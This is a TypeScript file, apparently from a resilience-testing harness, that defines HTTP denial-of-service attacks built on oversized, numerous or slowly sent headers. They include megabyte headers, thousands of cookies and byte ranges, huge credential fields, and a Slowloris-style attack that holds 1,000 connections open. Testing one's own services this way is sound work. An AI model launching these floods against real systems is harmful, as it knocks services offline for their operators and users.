import type { Attack } from '../attack.ts'
import { rawRequest } from '../payloads.ts'

const list = (times: number, one: (n: number) => string) => Array.from({ length: times }, (_, n) => one(n)).join(',')
const PAGES = ['/market', '/gate/demo', '/api/v2/deals', '/docs', '/openapi/market.json']

/** Headers that are long, many or late. */
export const headers: Attack[] = [
  {
    name: 'headers of 1 MB',
    kind: 'huge',
    product: 'all',
    signedIn: false,
    async run(target) {
      for (let n = 0; n < 100; n++)
        await target.raw(rawRequest('GET', PAGES[n % 5] ?? '/', { 'x-long': 'a'.repeat(1_000_000) }))
      await target.pause(1_000)
    },
  },
  {
    name: '1,500 headers in a request',
    kind: 'many',
    product: 'all',
    signedIn: false,
    async run(target) {
      const lines = Object.fromEntries(Array.from({ length: 1_500 }, (_, n) => [`h${n}`, '1']))
      for (let n = 0; n < 300; n++) await target.raw(rawRequest('GET', PAGES[n % 5] ?? '/', lines))
      await target.pause(1_000)
    },
  },
  {
    name: '15 KB of Accept, Accept-Language, Accept-Encoding',
    kind: 'huge',
    product: 'all',
    signedIn: false,
    run: ({ flood }) =>
      flood(300, 10, n => ({
        path: PAGES[n % 5] ?? '/',
        headers: {
          [['accept', 'accept-language', 'accept-encoding'][n % 3] ?? 'accept']: list(900, at => `a/b${at};q=0.${at}`),
        },
      })),
  },
  {
    name: '1,000 cookies',
    kind: 'many',
    product: 'all',
    signedIn: false,
    run: ({ flood }) =>
      flood(300, 10, n => {
        const names = ['gate', 'market_session', 'a']
        const cookie = Array.from({ length: 1_000 }, (_, at) => `${names[at % 3]}=a~b~${at}`).join('; ')
        return { path: PAGES[n % 2] ?? '/', headers: { cookie: cookie.slice(0, 15_500) } }
      }),
  },
  {
    name: 'ranges by the thousand of a download',
    kind: 'repeated',
    product: 'crm',
    signedIn: true,
    run: ({ flood, world }) =>
      flood(150, 10, n => ({
        path: `/v1/files/${world.attacker.fileId}/download`,
        as: 'crm',
        headers: { range: n % 2 ? `bytes=${list(1_900, at => `${at}-`)}` : `bytes=-${'9'.repeat(10_000)}` },
      })),
  },
  {
    name: 'If-None-Match and If-Match of 15 KB',
    kind: 'huge',
    product: 'all',
    signedIn: true,
    run: ({ flood, world }) =>
      flood(200, 10, n => ({
        method: n % 2 ? 'GET' : 'PATCH',
        path: n % 4 ? `/api/v2/deals/${world.attacker.dealIds[0]}` : '/market/assets/market.css',
        as: 'crm',
        headers: { 'if-none-match': list(2_000, at => `"${at}"`), 'if-match': 'W/"'.repeat(500) },
      })),
  },
  {
    name: 'credentials of 15 KB',
    kind: 'huge',
    product: 'all',
    signedIn: false,
    run: ({ flood }) =>
      flood(300, 10, n => {
        const long = '.'.repeat(15_000)
        const sent = [
          { authorization: `Bearer ${'a.'.repeat(7_000)}` },
          { authorization: `Basic ${long}` },
          { 'x-api-token': long },
          { 'x-forwarded-for': list(1_500, at => `10.0.0.${at % 250}`) },
        ][n % 4]
        return { path: ['/v1/users/me', '/api/user/getUserData'][n % 2] ?? '/', headers: { ...sent } }
      }),
  },
  {
    name: '1,000 connections, a header letter at a time',
    kind: 'slow',
    product: 'all',
    signedIn: false,
    async run(target) {
      const sockets = await Promise.all(
        Array.from({ length: 1_000 }, (_, n) => target.raw(`GET ${PAGES[n % 5]} HTTP/1.1\r\nhost: a\r\nx-slow: `)),
      )
      for (let n = 0; n < 20 && !target.isOver(); n++) {
        for (const socket of sockets) if (socket.writable) socket.write('a')
        await target.pause(400)
      }
    },
  },
]
